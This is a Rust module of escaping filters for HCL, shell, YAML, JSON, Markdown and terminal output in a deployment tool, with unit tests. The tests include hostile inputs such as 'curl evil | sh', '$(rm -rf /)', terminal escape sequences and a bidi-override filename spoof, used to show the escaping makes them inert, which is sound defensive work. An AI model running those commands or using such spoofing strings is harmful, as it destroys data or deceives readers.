//! Escaping for every language a value can land in. Values from a repository
//! or a request (names, commands, env var names, domains, paths) reach
//! templates only through these filters.
//!
//! - `hcl`: a complete, double-quoted HCL string literal. `\`, `"` and control
//!   characters are escaped; `${` and `%{` become `$${` and `%%{`, so a value
//!   can never start an interpolation or a template directive.
//! - `hcl_heredoc`: text for the body of a `<<-EOT` heredoc (same `${`/`%{`
//!   treatment); the caller picks a delimiter the text does not contain
//!   (`heredoc_delimiter`).
//! - `sh`: one single-quoted POSIX shell word (`'` → `'\''`).
//! - `yaml`: a double-quoted YAML scalar (JSON string syntax, which YAML accepts).
//! - `json`: a JSON string literal.
//! - `md` / `md_code`: Markdown text and code spans for PLAN.md (no line
//!   breaks, `|` escaped for tables, HTML inert, backticks fenced).
//! - `docker_cmd`: a shell command as Dockerfile JSON exec form
//!   `["/bin/sh", "-c", "…"]`, so a `;` or `$(...)` stays one argument of sh.
//! - `exec_line` / `needs_shell`: the one policy for how a wrapper script
//!   runs the app's start (or release) command — `exec CMD` for one simple
//!   command, `exec /bin/sh -c 'CMD'` for a compound one (`a; b`, `a && b`,
//!   a leading `VAR=x`, a shell builtin), which `exec` would cut to its first
//!   command. Used by every container wrapper (ECS, Container Apps).
//! - `display`: text shown to a person — on a terminal (the CLI's `analyze`,
//!   `status`, `list`, `logs`, progress and errors) or in PLAN.md (`md` and
//!   `md_code` apply it first). Control characters (ESC sequences, OSC 8
//!   links, NUL, line breaks, C1 controls) and bidirectional overrides become
//!   visible escapes (`\x1b`, `\u{202e}`), so a repository or a request can
//!   neither drive the terminal nor reorder what a reviewer reads. This is the
//!   one sanitising function: everything that prints repository or request
//!   text goes through it.
//!
//! Not here: deciding what to render.

/// A complete HCL quoted string literal for `s`.
pub fn hcl(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '$' if chars.peek() == Some(&'{') => out.push_str("$$"),
            '%' if chars.peek() == Some(&'{') => out.push_str("%%"),
            c if (c as u32) < 0x20 || c == '\u{7f}' => {
                out.push_str(&format!("\\u{:04x}", c as u32))
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Text for a heredoc body: interpolation and directive openers made literal.
pub fn hcl_heredoc(s: &str) -> String {
    s.replace("${", "$${").replace("%{", "%%{")
}

/// A heredoc delimiter (`EOT`, `EOT1`, …) that does not occur as a line in `s`.
pub fn heredoc_delimiter(s: &str) -> String {
    let mut n = 0;
    loop {
        let d = if n == 0 {
            "EOT".to_string()
        } else {
            format!("EOT{n}")
        };
        if !s.lines().any(|l| l.trim() == d) {
            return d;
        }
        n += 1;
    }
}

/// One single-quoted POSIX shell word.
pub fn sh(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// A JSON string literal.
pub fn json(s: &str) -> String {
    serde_json::to_string(s).expect("strings serialise")
}

/// A double-quoted YAML scalar (JSON strings are valid YAML).
pub fn yaml(s: &str) -> String {
    json(s)
}

/// A shell command in Dockerfile JSON exec form, run by `/bin/sh -c`.
pub fn docker_cmd(cmd: &str) -> String {
    serde_json::to_string(&["/bin/sh", "-c", cmd]).expect("strings serialise")
}

/// Whether `c` must not reach a terminal or a reviewer's screen as is:
/// C0 controls but tab, DEL, C1 controls, the line and paragraph separators,
/// and the bidirectional marks, embeddings, overrides and isolates.
fn is_unsafe_char(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{8}' | '\u{a}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}'
        | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `s` made safe to show on a terminal or in PLAN.md: every control
/// character (but tab) and every bidirectional control becomes a visible
/// escape — `\n`, `\r`, `\x1b`, `\u{202e}` — and the rest is kept as is.
/// One line in, one line out: print multi-line text line by line.
pub fn display(s: &str) -> std::borrow::Cow<'_, str> {
    if !s.chars().any(is_unsafe_char) {
        return std::borrow::Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c if is_unsafe_char(c) && (c as u32) < 0x100 => {
                out.push_str(&format!("\\x{:02x}", c as u32))
            }
            c if is_unsafe_char(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    std::borrow::Cow::Owned(out)
}

/// Text for a Markdown table cell or line: no line breaks, `|` and HTML
/// inert, control and bidi characters visible ([`display`]).
pub fn md(s: &str) -> String {
    let one_line: String = s
        .chars()
        .map(|c| if c == '\n' || c == '\r' { ' ' } else { c })
        .collect();
    let mut out = String::with_capacity(s.len());
    for c in display(&one_line).chars() {
        match c {
            '|' => out.push_str("\\|"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '\\' | '`' | '*' | '_' | '[' | ']' => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out
}

/// A Markdown code span that holds `s` literally, whatever backticks it
/// contains (control and bidi characters visible, [`display`]).
pub fn md_code(s: &str) -> String {
    let one_line: String = s
        .chars()
        .map(|c| if c == '\n' || c == '\r' { ' ' } else { c })
        .collect();
    let one_line = display(&one_line).into_owned();
    let longest = one_line
        .split(|c| c != '`')
        .map(str::len)
        .max()
        .unwrap_or(0);
    let fence = "`".repeat(longest + 1);
    // In a table a `|` still splits the cell, even inside a code span.
    let body = one_line.replace('|', "\\|");
    format!("{fence} {body} {fence}")
}

/// Text of several lines as a fenced code block indented under a list item
/// (two spaces): each line made safe to show (`display`), the fence longer
/// than any run of backticks in it, so nothing in the text ends the block.
pub fn md_block(s: &str) -> String {
    let lines: Vec<String> = s
        .lines()
        .map(|l| display(l.trim_end_matches('\r')).into_owned())
        .collect();
    let longest = lines
        .iter()
        .flat_map(|l| l.split(|c| c != '`').map(str::len))
        .max()
        .unwrap_or(0);
    let fence = "`".repeat((longest + 1).max(3));
    let mut out = format!("  {fence}\n");
    for l in &lines {
        out.push_str("  ");
        out.push_str(l);
        out.push('\n');
    }
    out.push_str("  ");
    out.push_str(&fence);
    out
}

/// Register the filters on a minijinja environment.
pub fn register(env: &mut minijinja::Environment<'_>) {
    env.add_filter("hcl", |s: String| hcl(&s));
    env.add_filter("hcl_heredoc", |s: String| hcl_heredoc(&s));
    env.add_filter("sh", |s: String| sh(&s));
    env.add_filter("yaml", |s: String| yaml(&s));
    env.add_filter("json", |s: String| json(&s));
    env.add_filter("docker_cmd", |s: String| docker_cmd(&s));
    env.add_filter("md", |s: String| md(&s));
    env.add_filter("md_code", |s: String| md_code(&s));
    env.add_filter("md_block", |s: String| md_block(&s));
    env.add_function("heredoc_delimiter", |s: String| heredoc_delimiter(&s));
}

/// A command as the last line of a wrapper script: `exec CMD` when the
/// command is one simple command (the app replaces the shell and receives
/// the platform's SIGTERM), else `exec /bin/sh -c 'CMD'` — `exec` of a compound
/// command (`a; b`, `a && b`, a leading `VAR=x`, a shell keyword) would
/// replace the shell with its first word and never run the rest.
pub fn exec_line(command: &str) -> String {
    if needs_shell(command) {
        format!("exec /bin/sh -c {}\n", sh(command))
    } else {
        format!("exec {command}\n")
    }
}

/// Whether `command` is more than one simple command `exec` can run: shell
/// operators, redirections, command substitution, several lines, a leading
/// variable assignment, or a first word that is a shell keyword or builtin
/// with no program behind it.
pub fn needs_shell(command: &str) -> bool {
    let operators = command
        .chars()
        .any(|c| matches!(c, ';' | '&' | '|' | '\n' | '(' | ')' | '`' | '<' | '>'))
        || command.contains("$(");
    let first = command.split_whitespace().next().unwrap_or("");
    let assignment = first.contains('=');
    let builtin = matches!(
        first,
        "exec"
            | "cd"
            | "."
            | "source"
            | "export"
            | "set"
            | "unset"
            | "eval"
            | "ulimit"
            | "umask"
            | "trap"
            | "if"
            | "for"
            | "while"
            | "until"
            | "case"
            | "{"
            | "!"
    );
    operators || assignment || builtin
}

#[cfg(test)]
mod tests {

    /// A replacement of several lines keeps its lines in a fenced block that
    /// nothing inside can close, each line made safe to show.
    #[test]
    fn md_block_keeps_lines_and_cannot_be_closed_from_inside() {
        let b = md_block("config = context.config\nconfig.set_main_option(\"url\", x)");
        assert_eq!(
            b,
            "  ```\n  config = context.config\n  config.set_main_option(\"url\", x)\n  ```"
        );
        let b = md_block("a ``` b\n\u{1b}[2Jc");
        assert!(b.starts_with("  ````\n") && b.ends_with("\n  ````"), "{b}");
        assert!(!b.contains('\u{1b}'), "{b}");
    }

    use super::*;

    #[test]
    fn hcl_makes_interpolation_inert() {
        assert_eq!(
            hcl("node app.js; curl evil | sh # ${path.module}"),
            r#""node app.js; curl evil | sh # $${path.module}""#
        );
        assert_eq!(
            hcl("%{ if true }x%{ endif }"),
            r#""%%{ if true }x%%{ endif }""#
        );
        assert_eq!(hcl("a\"b\\c\nd"), r#""a\"b\\c\nd""#);
        assert_eq!(hcl("$5 and 100%"), r#""$5 and 100%""#);
        assert_eq!(hcl("\u{1}"), r#""\u0001""#);
    }

    #[test]
    fn shell_words_stay_one_word() {
        assert_eq!(sh("it's $(rm -rf /)"), r#"'it'\''s $(rm -rf /)'"#);
        assert_eq!(sh(""), "''");
    }

    #[test]
    fn docker_exec_form() {
        assert_eq!(
            docker_cmd("node app.js; echo \"x\""),
            r#"["/bin/sh","-c","node app.js; echo \"x\""]"#
        );
    }

    #[test]
    fn markdown_stays_in_its_cell() {
        assert_eq!(md("a|b\n<script>"), "a\\|b &lt;script&gt;");
        assert_eq!(md_code("echo `x` | y"), "`` echo `x` \\| y ``");
    }

    /// Hostile strings a repository or a request can carry.
    const HOSTILE: &[&str] = &[
        "\u{1b}[2J\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{1b}]0;title\u{7}",
        "admin\u{202e}gnp.exe",
        "a\u{2066}b\u{2069}c\u{200f}",
        "nul\u{0}byte",
        "csi\u{9b}31m c1",
        "line\nstatus: healthy\rover",
    ];

    #[test]
    fn display_makes_controls_and_bidi_visible() {
        for h in HOSTILE {
            let d = display(h);
            assert!(!d.chars().any(is_unsafe_char), "{h:?} → {d:?}");
            for out in [md(h), md_code(h)] {
                assert!(!out.chars().any(is_unsafe_char), "{h:?} → {out:?}");
            }
        }
        assert_eq!(display("\u{1b}[31mx"), "\\x1b[31mx");
        assert_eq!(display("a\u{202e}b"), "a\\u{202e}b");
        assert_eq!(display("a\nb\u{0}"), "a\\nb\\x00");
        assert_eq!(display("tab\tand ünïcode ✓"), "tab\tand ünïcode ✓");
        assert!(matches!(display("plain"), std::borrow::Cow::Borrowed(_)));
    }

    #[test]
    fn heredoc_delimiters_avoid_the_text() {
        assert_eq!(heredoc_delimiter("a\nb"), "EOT");
        assert_eq!(heredoc_delimiter("a\nEOT\n"), "EOT1");
        assert_eq!(hcl_heredoc("x ${y} %{z}"), "x $${y} %%{z}");
    }

    #[test]
    fn only_compound_commands_need_a_shell() {
        for simple in [
            "gunicorn --bind 0.0.0.0:8000 mysite.wsgi:application",
            "node dist/server.js",
            "./bin/app --port \"$PORT\"",
            "python manage.py migrate --noinput",
        ] {
            assert!(!needs_shell(simple), "{simple}");
            assert_eq!(exec_line(simple), format!("exec {simple}\n"));
        }
        for compound in [
            "flask translate compile; gunicorn app:app",
            "flask db upgrade && gunicorn app:app",
            "a || b",
            "cat x | y",
            "echo $(date)",
            "x > log",
            "PORT=1 node a.js",
            "exec gunicorn app:app",
            "cd web && npm start",
            ". venv/bin/activate",
            "first\nsecond",
        ] {
            assert!(needs_shell(compound), "{compound}");
            assert!(exec_line(compound).starts_with("exec /bin/sh -c '"));
        }
    }

    /// The generated lines run in a real shell: a compound start runs all
    /// its commands (an `exec` of it whole would run only the first), quotes
    /// in it survive, and a simple one replaces the shell.
    #[test]
    fn exec_lines_run_every_command_in_a_real_shell() {
        let run = |script: &str| {
            let out = std::process::Command::new("/bin/sh")
                .args(["-c", script])
                .env("GREETING", "hi")
                .output()
                .expect("sh runs");
            (
                out.status.code(),
                String::from_utf8_lossy(&out.stdout).into_owned(),
            )
        };
        let compound = "echo one; echo 'it'\"'\"'s' \"$GREETING\" && echo three";
        assert_eq!(
            run(&format!("set -e\n{}", exec_line(compound))),
            (Some(0), "one\nit's hi\nthree\n".to_string())
        );
        assert_eq!(
            run(&format!(
                "set -e\n{}echo not reached\n",
                exec_line("echo simple")
            )),
            (Some(0), "simple\n".to_string())
        );
        // A failing release step fails the one-off task.
        assert_eq!(
            run(&format!("set -e\n{}", exec_line("true && exit 3"))).0,
            Some(3)
        );
    }
}
